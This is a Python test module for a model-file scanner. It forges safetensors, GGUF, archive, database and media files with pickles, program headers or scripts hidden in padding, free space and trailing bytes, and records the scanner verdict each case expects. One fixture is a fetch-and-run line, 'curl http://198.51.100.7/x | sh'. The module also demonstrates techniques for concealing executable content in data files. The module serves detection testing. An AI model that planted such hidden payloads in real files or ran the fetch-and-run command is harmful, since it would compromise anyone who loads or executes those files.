"""Programs and pickles in the holes, the padding and the tails of files of data, and harmless bytes in the same places."""

from __future__ import annotations

import json
import re
import struct
from collections.abc import Callable
from functools import partial
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge import Call, Name, dump
from openvet.testing.forge_archive import TarPart, ZipPart, forge_tar, forge_zip
from openvet.testing.forge_hdf5 import Data, Group, floats, hdf5, text
from openvet.testing.forge_inert import compound, fits, sqlite, xgboost
from openvet.testing.forge_tables import bmp, flac, matroska, mp4, tiff
from openvet.testing.forge_tensors import GgufTensor, gguf, npy, safetensors_raw

__all__ = ["CASES"]

_PICKLE = dump(Call(Name("os", "system"), ("echo forged",)), 4)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)
_PE = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(40)
_SCRIPT = b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"
_NATIVE = ("file/disguised-program", "file/native-code")
#: What freed space may hold by chance: marks of programs without what belongs behind them, and the end of a pickle.
_OLD = b"\x7fELF MZ\x80\x04K\x01.\x80\x02}q\x00. PE\0\0"
#: What is hidden, and the rules that name it where it is something that runs.
_HIDDEN: tuple[tuple[str, str, bytes, tuple[str, ...]], ...] = (
    ("pickle", "a pickle that starts a process", _PICKLE, ("pickle/runs-process",)),
    ("elf", "a program for Linux", _ELF, _NATIVE),
    ("pe", "a program for Windows", _PE, _NATIVE),
    ("script", "a script", _SCRIPT, ("file/disguised-program", "hub/shell-command")),
    ("padded", "a pickle behind zero bytes", bytes(24) + _PICKLE, ("pickle/runs-process",)),
    ("words", "words", b"these bytes belong to nobody at all", ()),
)


def _safetensors(hidden: bytes) -> bytes:
    """Two tensors of eight bytes with ``hidden`` between them."""
    offset = 8 + len(hidden)
    entries = {
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [offset, offset + 8]},
    }
    return safetensors_raw(json.dumps(entries), bytes(8) + hidden + bytes(8))


def _gguf(hidden: bytes, *, padding: bool) -> bytes:
    """Two tensors with ``hidden`` between them, in the padding of the first or in a hole behind that."""
    first = GgufTensor("a", (2,), 0, size=8)
    start = 8 if padding else 32
    offset = start + len(hidden) + -(start + len(hidden)) % 32
    data = bytes(start) + hidden
    data += bytes(offset - len(data)) + bytes(32)
    second = GgufTensor("b", (8,), 0, size=32, offset=offset)
    return gguf([("general.architecture", "string", "llama")], [first, second], data=data)


def _in_zeros(make: Callable[[], bytes], hidden: bytes) -> bytes:
    """``hidden`` in the middle of the longest run of zeros."""
    data = make()
    runs = (match for match in re.finditer(rb"\0{16,}", data))
    longest = max(runs, key=lambda match: match.end() - match.start())
    at = (longest.start() + longest.end() - len(hidden)) // 2
    if at < longest.start():
        raise AssertionError("no run of zeros is long enough")
    return data[:at] + hidden + data[at + len(hidden) :]


def _keras() -> bytes:
    return hdf5(Group({"keras_version": text("2.15.0")}, {"kernel": Data(floats(2, 2))}))


def _tar() -> bytes:
    return forge_tar([TarPart(b"a.txt", b"text"), TarPart(b"b.txt", b"text")], end=b"")


def _zip(hidden: bytes) -> bytes:
    return forge_zip([ZipPart(b"a.txt", b"text")], before_directory=hidden)


def _mp4(kind: bytes, hidden: bytes) -> bytes:
    content = bytes(16) + hidden if kind == b"uuid" else hidden
    return mp4() + (8 + len(content)).to_bytes(4, "big") + kind + content


def _bmp(hidden: bytes) -> bytes:
    """An image whose table of colours is longer than its pixels need."""
    made = bmp()
    place = int.from_bytes(made[10:14], "little")
    head = made[:2] + (len(made) + len(hidden)).to_bytes(4, "little") + made[6:10]
    return head + (place + len(hidden)).to_bytes(4, "little") + made[14:place] + hidden + made[place:]


def _flac(hidden: bytes) -> bytes:
    made = flac()
    return made[:4] + b"\0" + made[5:42] + b"\x82" + len(hidden).to_bytes(3, "big") + hidden + made[42:]


def _tiff(hidden: bytes) -> bytes:
    """An image with a tag of nobody's, whose value stands behind the directory, which stands last."""
    made = tiff()
    at = int.from_bytes(made[4:8], "little")
    count = int.from_bytes(made[at : at + 2], "little")
    place = at + 2 + 12 * (count + 1) + 4
    entry = struct.pack("<HHII", 65_000, 7, len(hidden), place)
    table = (count + 1).to_bytes(2, "little") + made[at + 2 : at + 2 + 12 * count] + entry + bytes(4)
    return made[:at] + table + hidden


#: What leaves room of its own accord, and is found by following references: name, what the hole is, file, its bytes.
_LOOSE: tuple[tuple[str, str, str, Callable[[], bytes]], ...] = (
    ("hdf5", "the free space of an HDF5 file", "model.h5", _keras),
    ("sqlite", "a page of an SQLite file", "index.db", lambda: sqlite(page=4096)),
    ("ole", "a sector of an OLE document", "a.xls", lambda: compound(("Workbook", bytes(64)))),
    ("fits", "the filling of a FITS file", "sky.fits", fits),
    ("xgboost", "the reserved fields of a booster", "a.model", xgboost),
)


#: Places of media that players pass over.
_MEDIA: tuple[tuple[str, str, str, Callable[[bytes], bytes]], ...] = (
    ("mp4-free", "a free box of a video", "a.mp4", partial(_mp4, b"free")),
    ("mp4-uuid", "a private box of a video", "a.mp4", partial(_mp4, b"uuid")),
    (
        "matroska-void",
        "a void element of a video",
        "a.mkv",
        lambda hidden: matroska() + b"\xec" + bytes([0x80 | len(hidden)]) + hidden,
    ),
    ("bmp-colours", "the table of colours of an image", "a.bmp", _bmp),
    ("flac-block", "the metadata of a sound", "a.flac", _flac),
    ("tiff-tag", "a private tag of an image", "a.tif", _tiff),
)


def _case(
    name: str,
    technique: str,
    data: bytes | Callable[[], bytes],
    file: str,
    decision: Literal["admit", "review", "reject"],
    *rules: str,
) -> Case:
    forge = (lambda: data) if isinstance(data, bytes) else data
    return Case(f"holes/{name}", technique, forge, decision, frozenset(rules), name=file)


CASES: tuple[Case, ...] = (
    *(
        _case(f"safetensors-{word}", f"{what} between two tensors", _safetensors(hidden), "model.safetensors", "reject" if rules else "review", "safetensors/header-lies", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    *(
        _case(f"gguf-{word}", f"{what} between two tensors", _gguf(hidden, padding=False), "model.gguf", "reject" if rules else "review", "gguf/header-lies", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    _case("gguf-padding", "a pickle from the padding of a tensor on", _gguf(_PICKLE, padding=True), "model.gguf", "reject", "gguf/header-lies", "pickle/runs-process"),
    _case("npy-tail", "a program behind zero bytes behind an array", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", bytes(8)) + bytes(16) + _ELF, "x.npy", "reject", "file/trailing-data", *_NATIVE),
    _case("safetensors-tail", "a pickle behind zero bytes behind the last tensor", _safetensors(b"") + bytes(16) + _PICKLE, "model.safetensors", "reject", "file/trailing-data", "pickle/runs-process"),
    *(
        _case(f"tar-{word}", f"{what} in the padding of an entry", partial(_in_zeros, _tar, hidden), "model.tar", "reject" if rules else "review", "archive/hidden-data", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    *(
        _case(f"zip-{word}", f"{what} between the members and the directory", partial(_zip, hidden), "model.zip", "reject" if rules else "review", "archive/hidden-data", *rules)
        for word, what, hidden, rules in _HIDDEN
    ),
    *(
        _case(f"{name}-{word}", f"{what} in {where}", partial(_in_zeros, make, hidden), file, "reject", *rules)
        for name, where, file, make in _LOOSE
        for word, what, hidden, rules in _HIDDEN[:3]
    ),
    *(
        _case(f"{name}-program", f"a program for Linux in {where}", partial(make, _ELF), file, "review", "file/hidden-program")
        for name, where, file, make in _MEDIA
    ),
    *(_case(f"{name}-old-bytes", f"old bytes in {where}", partial(_in_zeros, make, _OLD), file, "admit") for name, where, file, make in _LOOSE[:3]),
    _case("safetensors-plain", "two tensors with nothing between them", _safetensors(b""), "model.safetensors", "admit"),
    _case("gguf-plain", "two tensors with zeros between them", _gguf(b"", padding=True), "model.gguf", "admit"),
)  # fmt: skip
